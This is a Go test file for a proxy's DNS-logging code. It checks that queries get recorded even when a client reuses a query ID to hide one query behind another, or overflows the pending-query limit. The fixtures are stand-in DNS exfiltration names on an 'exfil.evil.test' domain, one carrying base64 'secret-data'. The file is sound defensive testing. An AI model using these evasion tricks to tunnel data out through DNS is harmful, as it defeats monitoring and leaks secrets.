package proxy

import (
	"net"
	"net/netip"
	"sync"
	"testing"
	"time"
)

// dnsResolver is a resolver on loopback that answers every query with
// NXDOMAIN after delay (never, when delay is negative), and remembers the
// names it was asked.
type dnsResolver struct {
	pc    *net.UDPConn
	mu    sync.Mutex
	asked []string
}

func newDNSResolver(t *testing.T, delay time.Duration) *dnsResolver {
	t.Helper()
	pc, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { pc.Close() })
	r := &dnsResolver{pc: pc}
	go func() {
		buf := make([]byte, 2048)
		for {
			n, from, err := pc.ReadFromUDPAddrPort(buf)
			if err != nil {
				return
			}
			q := append([]byte(nil), buf[:n]...)
			m, _ := parseDNS(q)
			r.mu.Lock()
			r.asked = append(r.asked, m.Name)
			r.mu.Unlock()
			if delay >= 0 {
				time.AfterFunc(delay, func() { pc.WriteToUDPAddrPort(dnsResponse(q), from) })
			}
		}
	}()
	return r
}

func (r *dnsResolver) addr() netip.AddrPort { return r.pc.LocalAddr().(*net.UDPAddr).AddrPort() }

func (r *dnsResolver) count() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.asked)
}

// TestDNSIDReuseRecorded plays a client that hides a query behind an
// innocent one with the same ID, sent before the first is answered: the
// resolver answers both, and each must have its record with its own name.
// Keyed by ID alone, the second query took the first's place, the first's
// answer did not match it, and the tunnelled name was never recorded.
func TestDNSIDReuseRecorded(t *testing.T) {
	res := newDNSResolver(t, 50*time.Millisecond)
	p, _, recs := udpProxy(t, "policy: {default: allow}\n", func(cfg *Config) {
		cfg.UDPIdleTimeout = 3 * time.Second
		cfg.DNSPorts = []uint16{res.addr().Port()}
	})
	const secret = "c2VjcmV0LWRhdGE.exfil.evil.test"
	c, done := startFlow(p, quicClient, res.addr(), dnsQuery(5, secret, 16), dnsQuery(5, "www.example.com", 1))
	<-c.out
	<-c.out
	<-done
	if n := res.count(); n != 2 {
		t.Fatalf("the resolver was asked %d queries, want 2", n)
	}
	got := map[string]string{}
	for _, r := range recs.records(t, 3) {
		if r.Kind == "dns" {
			got[r.QueryName+"/"+r.QueryType] = r.Result + " " + r.RCode
		}
	}
	if len(got) != 2 || got[secret+"/TXT"] != "ok NXDOMAIN" || got["www.example.com/A"] != "ok NXDOMAIN" {
		t.Fatalf("dns records %v, want both queries answered, each by its own name", got)
	}
}

// TestDNSPendingFullRecorded: a flow with maxPendingDNS queries waiting
// for answers still relays the next query, and so records it at once,
// untracked, naming it; it used to be relayed without any record.
func TestDNSPendingFullRecorded(t *testing.T) {
	res := newDNSResolver(t, -1)
	p, _, recs := udpProxy(t, "policy: {default: allow}\n", func(cfg *Config) {
		cfg.UDPIdleTimeout = time.Minute
		cfg.UDPUnansweredTimeout = time.Minute
		cfg.DNSPorts = []uint16{res.addr().Port()}
	})
	c, _ := startFlow(p, quicClient, res.addr(), dnsQuery(0, "a.example.test", 1))
	for id := 1; id < maxPendingDNS; id++ {
		c.inject(dnsQuery(uint16(id), "a.example.test", 1))
	}
	const hidden = "hidden.exfil.evil.test"
	c.inject(dnsQuery(1, hidden, 1))
	deadline := time.Now().Add(5 * time.Second)
	for res.count() < maxPendingDNS+1 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	if n := res.count(); n != maxPendingDNS+1 {
		t.Fatalf("the resolver was asked %d queries, want %d", n, maxPendingDNS+1)
	}
	// The flow is still open: the only record so far is the untracked one.
	var untracked int
	for _, r := range recs.records(t, 1) {
		if r.Kind == "dns" && r.QueryName == hidden && r.Result == "untracked" && r.RCode == "" {
			untracked++
		} else {
			t.Errorf("unexpected record while the flow is open: %+v", r)
		}
	}
	if untracked != 1 {
		t.Fatalf("%d untracked records naming the query past the bound, want 1", untracked)
	}
	c.Close()
}
